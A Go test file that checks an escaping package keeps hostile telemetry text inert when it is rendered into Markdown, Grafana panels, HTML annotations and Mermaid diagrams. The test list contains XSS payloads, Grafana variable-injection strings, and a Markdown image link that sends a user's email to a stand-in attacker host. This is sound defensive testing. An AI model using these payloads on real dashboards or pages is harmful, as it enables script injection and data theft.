package escape_test

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/faultline-investigation/faultline/pkg/defect/provoke"
	"github.com/faultline-investigation/faultline/pkg/escape"
)

// hostile are names and texts as a stranger who sends telemetry could choose them.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `&lt;b&gt;`, `</table><h1>`,
		`![x](https://evil.example/?u=${__user.email})`, `[click](javascript:alert(1))`, `<https://evil.example>`, `https://evil.example/x`, `www.evil.example`, `ana@evil.example`,
		"`code`", "```js\nx\n```", `**bold** _it_ ~~gone~~`, "# heading", "> quote", "- item", "1. item", "+ item", "---", "=== x", "| a | b |", `\`, `\*`, "a\n\n# b", "$x$", "$$x$$",
		`${__user.email}`, `$__all`, `[[name]]`, `[[[name]]]`, `[[[[name]]`, `${name:raw}`, `$service`, "\x1b[31mred\x1b[0m", "\u202egnp.exe", "a\x00b", "a\tb", "::: note", "[ref]: https://evil.example", "[^1]", "&#36;{x}", "<!-- x -->",
	}
}

// reader reads Markdown as generously as anything does, raw HTML included.
var reader = goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList), goldmark.WithRendererOptions(html.WithUnsafe()))

func TestATextInMarkdownIsNothingButText(t *testing.T) {
	t.Parallel()
	for _, write := range []func(string) string{escape.Markdown, escape.Panel} {
		for _, text := range hostile() {
			for _, frame := range []string{"TEXT", "- TEXT", "# TEXT", "**TEXT**", "| TEXT | b |\n|---|---|\n| TEXT | TEXT |"} {
				var got, want bytes.Buffer
				require.NoError(t, reader.Convert([]byte(strings.ReplaceAll(frame, "TEXT", write(text))), &got))
				require.NoError(t, reader.Convert([]byte(strings.ReplaceAll(frame, "TEXT", "word")), &want))
				assert.Equal(t, tags(want.String()), tags(got.String()), "%q in %q", text, frame)
			}
		}
	}
}

// tags are the elements of a page without their texts.
func tags(page string) string {
	return strings.Join(regexp.MustCompile(`<[^>]*>`).FindAllString(page, -1), "")
}

// variables are what Grafana fills in, as its template service finds it.
var variables = regexp.MustCompile(`\$(\w+)|\[\[(\w+?)(?::(\w+))?\]\]|\$\{(\w+)(?:\.([^:^\}]+))?(?::([^\}]+))?\}`)

func TestNoTextInAPanelOrATitleIsAVariable(t *testing.T) {
	t.Parallel()
	for _, text := range hostile() {
		assert.NotRegexp(t, variables, escape.Panel(text))
		assert.NotRegexp(t, variables, escape.Title(text))
	}
	assert.Equal(t, "5$ of [x]", escape.Title("5$ of [x]"))
}

func TestNoTextInAnAnnotationIsHTML(t *testing.T) {
	t.Parallel()
	for _, text := range hostile() {
		assert.NotRegexp(t, `[<>"']`, escape.HTML(text))
		assert.NotRegexp(t, `<[a-zA-Z/!?]|&[a-zA-Z#]`, escape.Annotation(text))
	}
	assert.Equal(t, "p99 < 3 s & rising", escape.Annotation("p99 < 3 s & rising"))
	assert.Equal(t, "a &lt;b&gt; &amp; c", escape.HTML("a <b> & c"))
}

func TestATextInMermaidSeparatesNothing(t *testing.T) {
	t.Parallel()
	for _, text := range append(hostile(), "a : b ; c", "%%{init}%%") {
		got := regexp.MustCompile(`#\d+;`).ReplaceAllString(escape.Mermaid(text), "")
		assert.NotRegexp(t, "[:;<>`\n#]|%%", got)
	}
}

func FuzzMarkdownIsNothingButText(f *testing.F) {
	for _, text := range hostile() {
		f.Add(text)
	}
	f.Fuzz(nothingButText)
}

func TestDamagedTextsAreNothingButText(t *testing.T) {
	t.Parallel()
	var texts [][]byte
	for _, text := range hostile() {
		texts = append(texts, []byte(text))
	}
	provoke.Each(t, 3000, texts, func(text []byte) { nothingButText(t, string(text)) })
}

func nothingButText(t *testing.T, text string) {
	t.Helper()
	for _, write := range []func(string) string{escape.Markdown, escape.Panel} {
		var got bytes.Buffer
		if err := reader.Convert([]byte("x "+write(text)), &got); err != nil {
			t.Fatal(err)
		}
		if tags(got.String()) != "<p></p>" {
			t.Fatalf("%q became %q", text, got.String())
		}
	}
	if variables.MatchString(escape.Panel(text)) || variables.MatchString(escape.Title(text)) {
		t.Fatalf("%q is a variable", text)
	}
}
